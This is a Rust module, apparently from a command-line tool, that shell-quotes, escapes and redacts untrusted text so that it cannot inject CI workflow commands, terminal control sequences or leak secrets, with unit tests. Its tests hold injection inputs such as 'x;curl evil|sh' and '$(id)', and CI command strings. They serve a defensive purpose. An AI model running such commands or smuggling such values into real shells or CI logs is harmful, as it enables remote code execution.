//! Escapes, quotes and redacts foreign text for messages.
#![deny(
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::as_conversions
)]

use std::collections::HashSet;
use std::io;

use s3lo_core::text::clipped;

/// `text` on one line that is a command to no CI system: the characters are escaped that could move a terminal's cursor,
/// start a new line, turn the reading direction, or hide.
pub fn printable(text: &str) -> String {
    let escaped: String = text
        .chars()
        .flat_map(|c| {
            let escaped = is_unprintable(c).then(|| c.escape_default());
            let plain = (!is_unprintable(c)).then_some(c);
            escaped.into_iter().flatten().chain(plain)
        })
        .collect();
    inert(&escaped)
}

/// Lines in which no CI system finds a command. Azure's agent looks for `##vso[` and GitHub's runner for `##[` anywhere in
/// a line, TeamCity for `##teamcity[`; GitHub's looks for `::` after white space at the beginning of a line
/// ([agent](https://github.com/microsoft/azure-pipelines-agent/blob/master/src/Agent.Sdk/Command.cs),
/// [runner](https://github.com/actions/runner/blob/main/src/Runner.Common/ActionCommand.cs)). A `::` within a line, as in
/// an ARN, stays as it is.
pub fn inert(text: &str) -> String {
    /// The line so far.
    #[derive(PartialEq, Eq)]
    enum Line {
        WhiteSpace,
        /// White space and a colon.
        Colon,
        Text,
    }
    let mut inert = String::with_capacity(text.len());
    let (mut line, mut before) = (Line::WhiteSpace, '\n');
    for c in text.chars() {
        // One by one: of three taken apart in pairs two would stay together.
        if (c == '#' && before == '#') || (c == ':' && line == Line::Colon) {
            inert.push(' ');
        }
        line = match (c, line) {
            ('\n' | '\r', _) => Line::WhiteSpace,
            (':', Line::WhiteSpace) => Line::Colon,
            (c, Line::WhiteSpace) if c.is_whitespace() => Line::WhiteSpace,
            _ => Line::Text,
        };
        inert.push(c);
        before = c;
    }
    inert
}

/// JSON in which no CI system finds a command and no terminal a control sequence: a `##` is within a string, and
/// so is every unprintable character but the line breaks between fields.
pub(crate) fn inert_json(json: &str) -> String {
    let json = json.replace("##", r"#\u0023");
    if !json.chars().any(|c| c != '\n' && is_unprintable(c)) {
        return json;
    }
    let mut escaped = String::with_capacity(json.len());
    for c in json.chars() {
        if c == '\n' || !is_unprintable(c) {
            escaped.push(c);
            continue;
        }
        for unit in c.encode_utf16(&mut [0; 2]) {
            escaped.push_str(&format!("\\u{unit:04x}"));
        }
    }
    escaped
}

/// Quotes `text` as one word of a shell command line, since an attacker may have chosen what is printed
/// to be pasted.
pub(crate) fn quoted(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_@%+=:,./-".contains(&byte);
    if !text.is_empty() && text.bytes().all(plain) {
        return text.to_owned();
    }
    if text.chars().any(is_unprintable) {
        // Bash, zsh and ksh read the escapes. What is printed stays on its line.
        let escaped: String = text
            .chars()
            .map(|c| match c {
                c if is_unprintable(c) || matches!(c, '\'' | '\\') => ansi_escape(c),
                c => c.to_string(),
            })
            .collect();
        return format!("$'{escaped}'");
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// A character as ANSI-C quoting writes it.
fn ansi_escape(c: char) -> String {
    match c {
        '\'' | '\\' => format!("\\{c}"),
        '\n' => r"\n".to_owned(),
        '\r' => r"\r".to_owned(),
        '\t' => r"\t".to_owned(),
        c if u32::from(c) < 0x80 => format!(r"\x{:02x}", u32::from(c)),
        c => format!(r"\U{:08x}", u32::from(c)),
    }
}

/// The operating system's reason in words, without its number: `connection refused`.
pub(crate) fn os_reason(error: &io::Error) -> String {
    let text = error.to_string();
    let number = error
        .raw_os_error()
        .map(|number| format!(" (os error {number})"));
    let words = number.and_then(|number| text.strip_suffix(&number));
    let mut words = words.unwrap_or(&text).chars();
    let first = words.next().map(|first| first.to_ascii_lowercase());
    first.into_iter().chain(words).collect()
}

/// The name in backquotes, after a space; nothing if there is none.
pub(crate) fn backquoted(name: Option<&str>) -> String {
    name.map_or_else(String::new, |name| format!(" `{name}`"))
}

/// Whether `text` may be a key instead of its path: PEM, PEM in base64 as in CI variables, or a line of
/// either. A path of this length has a dot, a dash or a leading slash.
pub(crate) fn is_key_material(text: &str) -> bool {
    let base64 = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte);
    holds_key_block(text)
        || (text.len() >= 60 && !text.starts_with('/') && text.bytes().all(base64))
}

/// Whether `text` contains PEM, or PEM in base64.
pub(crate) fn holds_key_block(text: &str) -> bool {
    text.contains("-----BEGIN ") || text.contains("LS0tLS1CRUdJTi")
}

/// Whether `rest` may be a token of Vault
/// ([forms](https://developer.hashicorp.com/vault/docs/concepts/tokens#token-prefixes)).
pub(crate) fn is_vault_token(rest: &str) -> bool {
    let current = ["hvs.", "hvb.", "hvr."];
    let legacy = ["s.", "b.", "r."];
    current.iter().any(|start| rest.starts_with(start))
        || (rest.len() >= 26 && legacy.iter().any(|start| rest.starts_with(start)))
}

/// The path for a message; `…` if it may be the secret itself instead of its path.
pub(crate) fn shown_path(path: &str) -> &str {
    let secret = is_key_material(path)
        || path.contains(char::is_control)
        || (path.split('.').count() == 3 && path.len() > 60 && !path.contains('/'))
        || is_vault_token(path);
    if secret { "…" } else { path }
}

/// The value for a message; `…` if it may be a secret.
pub(crate) fn shown_value(value: &str) -> &str {
    let text = value.trim();
    let secret = is_key_material(text) || is_vault_token(text);
    if secret { "…" } else { value }
}

/// A server's text for a message: without the `secrets` that were sent to it, and clipped.
pub(crate) fn redacted(text: &str, secrets: &[&str]) -> String {
    clipped(&without_secrets(text, secrets))
}

/// Replaces by `…` each of the `secrets` in a text, and each part of one of [`MIN_PART_LEN`] bytes or more: servers cut
/// what they quote.
pub(crate) fn without_secrets(text: &str, secrets: &[&str]) -> String {
    SecretParts::of(secrets).removed_from(text)
}

/// The parts of secrets by which they are found in texts. Made once for all headers of a response: a session's token has
/// a thousand of them.
pub(crate) struct SecretParts<'a>(Vec<(usize, HashSet<&'a [u8]>)>);

impl<'a> SecretParts<'a> {
    pub(crate) fn of(secrets: &[&'a str]) -> Self {
        let long = secrets.iter().filter(|text| text.len() >= MIN_SECRET_LEN);
        let parts = long.map(|secret| {
            let len = secret.len().min(MIN_PART_LEN);
            (len, secret.as_bytes().windows(len).collect())
        });
        Self(parts.collect())
    }

    /// The text with `…` in place of each part.
    pub(crate) fn removed_from(&self, text: &str) -> String {
        let mut secret_bytes = vec![false; text.len()];
        for (len, parts) in &self.0 {
            for (start, part) in text.as_bytes().windows(*len).enumerate() {
                if parts.contains(part) {
                    let found = secret_bytes.iter_mut().skip(start).take(*len);
                    found.for_each(|byte| *byte = true);
                }
            }
        }
        let mut kept = String::with_capacity(text.len());
        let mut after_secret = false;
        for (at, c) in text.char_indices() {
            let secret = secret_bytes.get(at).copied().unwrap_or(true);
            match (secret, after_secret) {
                (false, _) => kept.push(c),
                (true, false) => kept.push('…'),
                (true, true) => {}
            }
            after_secret = secret;
        }
        kept
    }
}

/// The shortest secret, in bytes, that is searched for. A shorter text may be part of any word.
const MIN_SECRET_LEN: usize = 8;

/// The shortest part of a secret, in bytes, that is removed without the rest.
const MIN_PART_LEN: usize = 16;

pub(crate) fn is_unprintable(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{00ad}'
                | '\u{061c}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{feff}'
                | '\u{e0000}'..='\u{e007f}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_keeps_its_line_and_its_direction() {
        assert_eq!(
            printable("a\n::error::\u{1b}[31m\u{202e}é"),
            "a\\n::error::\\u{1b}[31m\\u{202e}é"
        );
    }

    #[test]
    fn no_line_holds_a_command_of_a_ci_system() {
        for (text, expected) in [
            ("##vso[task.complete]", "# #vso[task.complete]"),
            ("a##[error]b", "a# #[error]b"),
            ("####[group]", "# # # #[group]"),
            ("::error::x", ": :error::x"),
            (" \t::set-env name=a::b", " \t: :set-env name=a::b"),
            ("a\n  ::x\r::y\r\n::z", "a\n  : :x\r: :y\r\n: :z"),
            (":::x", ": ::x"),
            ("\u{a0}::x", "\u{a0}: :x"),
            (": :: x", ": :: x"),
            ("arn:aws:iam::1:role/a", "arn:aws:iam::1:role/a"),
            ("a# #b #", "a# #b #"),
            ("", ""),
        ] {
            assert_eq!(inert(text), expected, "{text:?}");
            assert_eq!(inert(expected), expected, "{text:?}");
        }
    }

    #[test]
    fn what_is_pasted_is_one_word() {
        assert_eq!(
            quoted("arn:aws:iam::1:role/a_b@c"),
            "arn:aws:iam::1:role/a_b@c"
        );
        assert_eq!(quoted("x;curl evil|sh"), "'x;curl evil|sh'");
        assert_eq!(quoted("$(id)'`"), r"'$(id)'\''`'");
        assert_eq!(quoted(""), "''");
    }

    #[test]
    fn a_secret_is_removed_from_a_text_whole_and_in_parts() {
        let token = "hvs.CAESIJ4wzkDqV0bU7-secret-canary";
        for (text, kept) in [
            (format!("bad token {token}, sorry"), "bad token …, sorry"),
            (format!("{token}{token}"), "…"),
            (format!("a {token} b {token}"), "a … b …"),
            // A server that cuts what it quotes.
            (
                "bad token hvs.CAESIJ4wzkDqV...".to_owned(),
                "bad token …...",
            ),
            ("…DqV0bU7-secret-canary\"".to_owned(), "……\""),
            (format!("é{token}é"), "é…é"),
            ("nothing of it".to_owned(), "nothing of it"),
            ("hvs.CAES and canary".to_owned(), "hvs.CAES and canary"),
        ] {
            assert_eq!(without_secrets(&text, &[token]), kept, "{text}");
        }
        // Of two secrets neither hides the other's rest.
        let longer = format!("{token}-and-more");
        assert_eq!(
            without_secrets(&format!("x {longer} y"), &[token, &longer]),
            "x … y"
        );
        assert_eq!(
            without_secrets("a short pass", &["short", ""]),
            "a short pass"
        );
        assert_eq!(without_secrets("a password", &["password"]), "a …");
        assert_eq!(redacted("no password", &["password"]), "no …");
    }
}
